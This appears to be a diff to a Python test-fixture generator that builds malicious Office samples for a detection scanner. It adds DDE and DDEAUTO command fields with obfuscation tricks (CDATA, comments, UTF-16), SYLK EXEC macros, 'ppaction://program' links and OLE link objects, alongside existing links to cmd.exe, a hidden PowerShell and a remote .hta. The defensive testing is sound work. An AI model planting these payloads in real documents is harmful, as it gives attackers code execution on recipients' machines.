@@ -249,7 +249,8 @@ def _flat() -> Iterator[_Made]:
         yield f"2003-{what}/letter.xml", doc.word_2003(body)
     link = "<ExcelWorkbook><SupBook><Path>cmd|/c calc.exe</Path></SupBook></ExcelWorkbook>"
     cell = "<Worksheet><Table><Row><Cell ss:Formula=\"=cmd|'/c calc'!A1\"/></Row></Table></Worksheet>"
-    for what, body in (("book", link), ("cell", cell)):
+    name = '<Names><NamedRange ss:Name="a" ss:RefersTo="=cmd|\'/c calc\'!A1"/></Names>'
+    for what, body in (("book", link), ("cell", cell), ("name", name)):
         yield f"2003-{what}/list.xml", doc.excel_2003(body)
 
 
@@ -263,9 +264,14 @@ def _fields() -> Iterator[_Made]:
         "split": doc.word_field(*"DDEAUTO", " cmd"),
         "simple": '<w:fldSimple w:instr=" DDEAUTO cmd x "><w:r/></w:fldSimple>',
         "entity": doc.word_field("&#68;DE cmd"),
+        "section": doc.word_field("<![CDATA[DDE]]><![CDATA[AUTO cmd]]>"),
+        "comment": doc.word_field("D<!-- > -->DE cmd"),
         "quote": f"{doc.FIELD_BEGIN}{quote}{doc.instruction(' cmd x')}{doc.FIELD_END}",
     }.items():
         yield f"{what}/letter.docx", doc.ooxml_bytes([("word/header1.xml", f"<w:hdr>{body}</w:hdr>".encode())])
+    field = f"\ufeff<w:document>{doc.word_field('DDEAUTO cmd')}</w:document>"
+    for coding in ("utf-8", "utf-16-le"):
+        yield f"other-name-{coding}/letter.docx", doc.ooxml_bytes([("word/main.dat", field.encode(coding))])
     for what, text in (("auto", b"\x13 DDEAUTO cmd x\x14\x15"), ("wide", "\x13DDE cmd x\x15".encode("utf-16-le"))):
         yield f"{what}/letter.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + text})
     for what, instruction in {
@@ -285,6 +291,8 @@ def _fields() -> Iterator[_Made]:
         doc.ooxml_bytes([("xl/externalLinks/externalLink1.bin", b"\xe8\x02\x0a\x01\x00" + bytes(8))], folder="xl"),
     )
     prefixed = b'<x:externalLink xmlns:x="y"><x:ddeLink ddeService="cmd" ddeTopic="x"/></x:externalLink>'
+    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
+    yield "elsewhere/list.xlsx", doc.ooxml_bytes([("xl/other.xml", link)], folder="xl")
     yield "prefix/list.xlsx", doc.ooxml_bytes([("xl/externalLinks/externalLink1.xml", prefixed)], folder="xl")
 
 
@@ -300,6 +308,8 @@ def _clicks() -> Iterator[_Made]:
                 continue
             slide = f'<p:sld><a:{event} r:id="rId2" action="{action}"/></p:sld>'.encode()
             yield f"{event}-{action[:2].strip('&')}/talk.ppsx", doc.ooxml_bytes([("ppt/slides/slide1.xml", slide)])
+    slide = b'<p:sld><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:sld>'
+    yield "other-name/talk.pptx", doc.ooxml_bytes([("ppt/slides/slide1.dat", slide)])
     for number, target in enumerate(
         ("file:///C:/Windows/System32/cmd.exe", "powershell.exe%20-w%20hidden", r"\\192.0.2.1\a\b.hta")
     ):
@@ -314,6 +324,7 @@ def _sheets() -> Iterator[_Made]:
         "auto": "NN;NAuto_open;ER1C1\nC;X1;Y1;ETRUE",
         "sheet": "O;L;E;D;V0\nC;X1;Y1;K1",
         "call": 'C;X1;Y1;K0;EEXEC("calc")',
+        "fill": 'C;X1;Y1;K0;EFORMULA.FILL("=A1",A2)',
         "link": "C;X1;Y1;K0;Ecmd|'/c calc'!A0",
         "returns": "P;PGeneral\rO;E\rC;X1;Y1;K1",
     }.items():
@@ -339,6 +350,7 @@ def _rich() -> Iterator[_Made]:
     }.items():
         yield f"{what}/letter.rtf", doc.rtf_bytes(before="{\\*\\template " + address + "//x.example/t.dotm}")
     link = doc.ole_bytes({"\x01Ole": b"x"}, bytes.fromhex("0003000000000000c000000000000046"))
+    yield "link/letter.docx", doc.ooxml_bytes([("word/embeddings/oleObject1.bin", link)])
     yield "link/letter.rtf", doc.rtf_bytes([doc.ole1_object("Anything", link)])
     moniker = struct.pack("<LL", 0x2000001, 1) + bytes(12) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
     yield (
